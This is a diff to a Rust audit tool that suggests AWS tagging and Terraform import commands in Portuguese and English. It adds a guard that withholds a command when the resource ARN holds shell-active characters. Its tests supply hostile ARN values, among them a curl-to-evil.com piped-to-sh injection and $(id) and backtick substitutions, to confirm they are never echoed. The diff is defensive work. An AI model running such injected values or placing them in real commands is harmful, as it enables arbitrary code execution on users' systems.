@@ -88,6 +88,9 @@ fn sentence(problem: &Problem, language: Language) -> String {
                 "has the environment's tags and is not in the inventory, so nobody answers for it",
             )
             .to_owned(),
+        Problem::EmptyArea => language
+            .pick("a área não tem nenhum recurso no inventário", "the area has no resource in the inventory")
+            .to_owned(),
         Problem::OneTeam => language
             .pick(
                 "responsável e backup são a mesma equipe, então não há backup",
@@ -143,20 +146,18 @@ fn next_step(settings: &Settings, row: &Row, problem: &Problem) -> String {
                 .iter()
                 .map(|(key, value)| format!("{key}={}", value.as_deref().unwrap_or("terraform")))
                 .collect();
+            let command =
+                format!("tag-resources --resource-arn-list '{}' --tags {}", row.arn, tags.join(","));
             format!(
-                "{} `aws resourcegroupstaggingapi tag-resources --resource-arn-list '{}' --tags {}`",
+                "{} {}",
                 language.pick("corrigir em default_tags do Terraform, ou já:", "correct it in Terraform's default_tags, or now:"),
-                row.arn,
-                tags.join(",")
+                tagging(row, &command, language)
             )
         }
         Problem::NotInState => format!(
             "{} {}",
-            language.pick(
-                "declarar no Terraform e importar, ou apagar se ninguém precisa dele:",
-                "declare it in Terraform and import it, or delete it if nobody needs it:",
-            ),
-            import(row)
+            language.pick("declarar no Terraform e importar:", "declare it in Terraform and import it:"),
+            import(row, language)
         ),
         Problem::NotInInventory => format!(
             "{} inventory.areas.….resources.{} ({})",
@@ -165,22 +166,49 @@ fn next_step(settings: &Settings, row: &Row, problem: &Problem) -> String {
                 "add it to the area that answers for it in the policy,",
             ),
             row.kind,
-            language.pick("parâmetro Policy; ou retirar as tags", "parameter Policy; or take the tags off"),
+            language.pick("parâmetro Policy", "parameter Policy"),
         ),
-        Problem::OneTeam => format!(
-            "{} inventory.areas.{area}.responsible.backup ({})",
-            language.pick("nomear outra equipe em", "name another team in"),
+        Problem::OneTeam => {
+            let place = if row.kind == "area" {
+                format!("inventory.areas.{area}.responsible.backup")
+            } else {
+                "rotation.secrets.….responsible.backup".to_owned()
+            };
+            format!(
+                "{} {place} ({})",
+                language.pick("nomear outra equipe em", "name another team in"),
+                language.pick("parâmetro Policy", "parameter Policy"),
+            )
+        }
+        Problem::EmptyArea => format!(
+            "{} inventory.areas.{area}.resources ({})",
+            language.pick("nomear os recursos dela em", "name its resources in"),
             language.pick("parâmetro Policy", "parameter Policy"),
         ),
     }
 }
 
+/// A command of the tagging API about a resource, unless its ARN holds what a shell would run.
+fn tagging(row: &Row, command: &str, language: Language) -> String {
+    let is_harmless = |c: char| c.is_ascii_alphanumeric() || ":/_.+=@#,-".contains(c);
+    if row.arn.chars().all(is_harmless) {
+        return format!("`aws resourcegroupstaggingapi {command}`");
+    }
+    language
+        .pick(
+            "pelo console: o nome dele tem caracteres que um shell executaria",
+            "in the console: its name has characters that a shell would run",
+        )
+        .to_owned()
+}
+
 /// How Terraform takes a resource over.
-fn import(row: &Row) -> String {
+fn import(row: &Row, language: Language) -> String {
     let kinds =
         [Kind::EcsCluster, Kind::EcsService, Kind::LogGroup, Kind::RdsInstance, Kind::S3Bucket, Kind::Secret];
     let Some(kind) = kinds.into_iter().find(|kind| kind.name() == row.kind) else {
-        return format!("`aws resourcegroupstaggingapi get-resources --resource-arn-list '{}'`", row.arn);
+        let command = format!("get-resources --resource-arn-list '{}'", row.arn);
+        return tagging(row, &command, language);
     };
     // Each provider's own id; a secret's is its ARN.
     let id = if kind == Kind::Secret { &row.arn } else { &row.name };
@@ -344,7 +372,8 @@ mod tests {
             ),
             (Problem::NotInState, "terraform import aws_db_instance.NOME 'moveongs-dev-db'"),
             (Problem::NotInInventory, "resources.rds-instance"),
-            (Problem::OneTeam, "inventory.areas.database.responsible.backup"),
+            (Problem::OneTeam, "rotation.secrets.….responsible.backup"),
+            (Problem::EmptyArea, "inventory.areas.database.resources"),
         ] {
             let mut said = BTreeSet::new();
             for language in [Language::Portuguese, Language::English] {
@@ -360,13 +389,20 @@ mod tests {
     #[test]
     fn a_secret_is_imported_by_its_arn_and_an_unknown_kind_is_looked_at() {
         assert_eq!(
-            import(&row("secret", "x", vec![])),
+            import(&row("secret", "x", vec![]), Language::English),
             "`terraform import aws_secretsmanager_secret.NOME 'arn:aws:x:x'`"
         );
         assert!(
-            import(&row("sns:topic", "x", vec![]))
+            import(&row("sns:topic", "x", vec![]), Language::English)
                 .contains("get-resources --resource-arn-list 'arn:aws:x:x'")
         );
+        for hostile in ["x';curl evil|sh;'", "x`id`", "x$(id)", "x y", "x\ny", "é"] {
+            let said = import(&row("cloudwatch:alarm", hostile, vec![]), Language::English);
+            assert!(said.contains("in the console") && !said.contains(hostile), "{said}");
+        }
+        let area = row("area", "database", vec![]);
+        let next = next_step(&settings(Language::English), &area, &Problem::OneTeam);
+        assert!(next.contains("inventory.areas.database.responsible.backup"), "{next}");
     }
 
     #[test]
